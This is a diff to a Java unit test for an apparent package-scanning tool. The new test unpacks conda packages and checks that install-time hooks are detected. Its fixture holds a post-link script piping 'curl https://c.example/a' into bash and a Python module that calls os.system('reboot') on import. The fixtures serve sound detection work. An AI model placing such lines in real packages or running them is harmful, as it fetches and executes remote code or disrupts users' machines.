@@ -160,7 +160,7 @@ class CodeReaderTest {
     MemoryTree module = MemoryTree.of("p.py", new byte[] {'x', 0, 1, 2});
 
     assertThat(told(CodeReader.read(conda, "p-1-0.conda", Budget.DEFAULT)))
-        .containsExactly("UNKNOWN packed with zstandard, which is not read CALL pkg-p-1-0.tar.zst");
+        .containsExactly("UNKNOWN cut short CALL pkg-p-1-0.tar.zst");
     assertThat(told(CodeReader.read(module, "p.py", Budget.DEFAULT)))
         .contains("UNKNOWN a module that is no text CALL p.py");
   }
@@ -177,6 +177,30 @@ class CodeReaderTest {
                         "info/index.json",
                         "{}"))))
         .contains("EXECUTES_TEXT https://c.example/a INSTALL bin/.p-post-link.sh:1");
+  }
+
+  @Test
+  void packagesOfCondaAreUnpacked() {
+    byte[] pkg =
+        Packed.zstandard(
+            Packed.tar(
+                new TreeMap<>(
+                    Map.of(
+                        "bin/.p-post-link.sh",
+                        "curl https://c.example/a | bash\n",
+                        "lib/python3.12/site-packages/p/__init__.py",
+                        "import os\nos.system('reboot')\n"))));
+    byte[] info = Packed.zstandard(Packed.tar(new TreeMap<>(Map.of("info/index.json", "{}"))));
+    MemoryTree conda =
+        MemoryTree.of(Map.of("metadata.json", "{}"))
+            .with("pkg-p-1-0.tar.zst", pkg)
+            .with("info-p-1-0.tar.zst", info);
+    MemoryTree outer = MemoryTree.of("p-1-0.conda", Packed.stored(conda));
+
+    assertThat(told(CodeReader.read(outer, "p-1-0.conda", "p-1-0.conda", Budget.DEFAULT)))
+        .contains(
+            "EXECUTES_TEXT https://c.example/a INSTALL bin/.p-post-link.sh:1",
+            "SPAWNS reboot IMPORT lib/python3.12/site-packages/p/__init__.py:2");
   }
 
   @Test
